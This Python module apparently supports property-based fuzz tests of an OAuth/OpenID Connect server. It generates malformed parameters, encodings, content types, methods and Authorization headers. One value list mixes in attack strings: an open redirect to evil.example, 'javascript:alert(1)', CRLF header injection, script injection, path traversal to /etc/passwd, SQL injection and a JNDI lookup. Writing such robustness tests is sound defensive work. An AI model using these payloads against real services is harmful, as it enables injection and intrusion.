"""Odd requests: what a parameter can be, how it can be written, and where it can stand."""

from __future__ import annotations

from typing import Any, Final
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

from tests.support.world import REDIRECT, challenge

# Right values, so that an example gets past the first rules.
USUAL: Final = {
    "client_id": "sample",
    "redirect_uri": REDIRECT,
    "response_type": "code",
    "scope": "openid profile email",
    "state": "st-1",
    "nonce": "n-1",
    "code_challenge": challenge(),
    "code_challenge_method": "S256",
}
AUTHORIZATION_NAMES: Final = (
    *USUAL, "prompt", "max_age", "login_hint", "ui_locales", "acr_values", "claims", "id_token_hint", "request",
    "request_uri", "registration", "response_mode", "display", "claims_locales", "resource", "audience", "dpop_jkt",
)  # fmt: skip
CALLBACK_NAMES: Final = (
    "state", "code", "error", "error_description", "error_uri", "iss", "session_state", "id_token", "access_token",
    "admin_consent", "tenant", "client_info",
)  # fmt: skip
TOKEN_NAMES: Final = (
    "grant_type", "code", "redirect_uri", "code_verifier", "client_id", "client_secret", "client_assertion",
    "client_assertion_type", "refresh_token", "scope", "username", "password", "resource", "access_token", "state",
)  # fmt: skip

_TELLING: Final = (
    "", " ", "none", "login", "code", "token", "form_post", "query", "fragment", "S256", "plain", "openid", "sample",
    "phone", "other", "helios-only", "authorization_code", "refresh_token", REDIRECT, REDIRECT + "/",
    "http://127.0.0.1/callback", "http://127.0.0.1:4711/callback", "https://evil.example/", "//evil.example",
    "javascript:alert(1)", "-1", "0", "999999999", "9" * 40, "1e9", "NaN", "null", "true", "{}", "[]",
    '{"id_token":{"acr":{"essential":true,"value":"x"}}}',
    '{"userinfo":{"email":null}}', '{"id_token":{"sub":{"value":"x"}}}', "{" * 50, "[" * 5000, '"' * 99, "el en",
    "eyJhbGciOiJub25lIn0.e30.", "a.b.c", "eleni.markou@aegeanfoods.example", "x@helios-shipping.example", "@", "a@b@c",
    "x@" + "a" * 300 + ".example", "x@xn--\u0430.example", "\x00", "\r\nLocation: https://evil.example/",
    "\u2028", "\u202e", "\ufeff", "\u0130", "ﬃ", "٣", "\U0001f600" * 40, "é" * 1000, "a" * 3000,
    "<script>alert(1)</script>", "{{7*7}}", "%00",
    "../../etc/passwd", "' OR 1=1 --", "${jndi:ldap://evil.example}", "access_denied", "server_error", "AADSTS50011",
)  # fmt: skip

texts: Final = st.one_of(
    st.sampled_from(_TELLING),
    st.text(max_size=60),
    st.text(alphabet=st.characters(codec="utf-8", categories=("Cc", "Cf", "Zs", "Zl", "Zp", "Mn", "Lo")), max_size=30),
    st.builds(lambda text, times: text * times, st.text(min_size=1, max_size=8), st.sampled_from((1, 40, 900))),
)


def _written(value: bytes, way: int) -> bytes:
    """A value in one of the ways in which it can stand in a query: rightly, and not so rightly."""
    match way:
        case 0:
            return quote_from_bytes(value, safe="").encode()
        case 1:
            return quote_from_bytes(value, safe="/:@?=;,+~!$'()*").encode()
        case 2:  # As it is, but for what would end the request line.
            return bytes(byte for byte in value if byte not in b"\r\n\x00 &#")
        case 3:
            return b"".join(b"%%%02x" % byte for byte in value)
        case 4:
            return quote_from_bytes(value, safe="").encode().replace(b"%", b"%25")
        case 5:
            return quote_from_bytes(value, safe="").encode()[:-1]  # Perhaps in the middle of an escape.
        case _:
            return value.decode("utf-8", "replace").encode("utf-16")


_values: Final = st.one_of(texts.map(lambda text: text.encode("utf-8", "surrogatepass")), st.binary(max_size=60))
_written_values: Final = st.builds(_written, _values, st.integers(0, 6))


def pairs(names: tuple[str, ...]) -> st.SearchStrategy[list[tuple[bytes, bytes]]]:
    """Names, mostly these, with values as written; some twice."""
    known = st.sampled_from(names).map(str.encode)
    name = st.one_of(known, known, known, st.builds(_written, _values, st.integers(0, 6)))
    return st.lists(st.tuples(name, _written_values), max_size=12)


def usual(**members: str) -> list[tuple[bytes, bytes]]:
    """Pairs that are as they should be."""
    return [(name.encode(), quote_from_bytes(value.encode(), safe="").encode()) for name, value in members.items()]


def laid_over(
    right: list[tuple[bytes, bytes]], odd: list[tuple[bytes, bytes]], *, twice: bool
) -> list[tuple[bytes, bytes]]:
    """The right pairs with the odd ones in their place, or beside them."""
    named = {name for name, _ in odd}
    return [pair for pair in right if twice or pair[0] not in named] + odd


def joined(written: list[tuple[bytes, bytes]], separator: bytes = b"&") -> bytes:
    return separator.join(name + b"=" + value for name, value in written)


content_types: Final = st.sampled_from(
    (
        *("application/x-www-form-urlencoded",) * 8,
        "application/x-www-form-urlencoded; charset=utf-16",
        "APPLICATION/X-WWW-FORM-URLENCODED",
        "application/json",
        "multipart/form-data",
        "multipart/form-data; boundary=x",
        "text/plain",
        "",
        "\xff",
        'a/b; c="',
        "*/*",
    )
)
methods: Final = st.sampled_from(("GET", "GET", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "OPTIONS", "BREW"))
separators: Final = st.sampled_from((b"&", b"&", b"&", b"&", b"&&", b";", b"&=&", b"\n&"))
_AUTHORIZATIONS: Final = ("", "Basic", "Basic =", "Basic " + "A" * 400, "Basic Og==", "Basic c2FtcGxlOg==", "Basic //7")
header_texts: Final = st.one_of(
    st.sampled_from((*_AUTHORIZATIONS, "Bearer", "Bearer x", "Digest")),
    st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=255, exclude_characters="\x7f"), max_size=60),
)


def sent(query: bytes, body: bytes | None, method: str, content_type: str, headers: dict[str, str]) -> dict[str, Any]:
    """Arguments of a request. WSGI hands the query on as latin-1 (PEP 3333)."""
    request: dict[str, Any] = {
        "method": method,
        "headers": headers,
        "environ_overrides": {"QUERY_STRING": query.decode("latin-1")},
    }
    if body is not None:
        request["data"] = body
        request["content_type"] = content_type
    return request
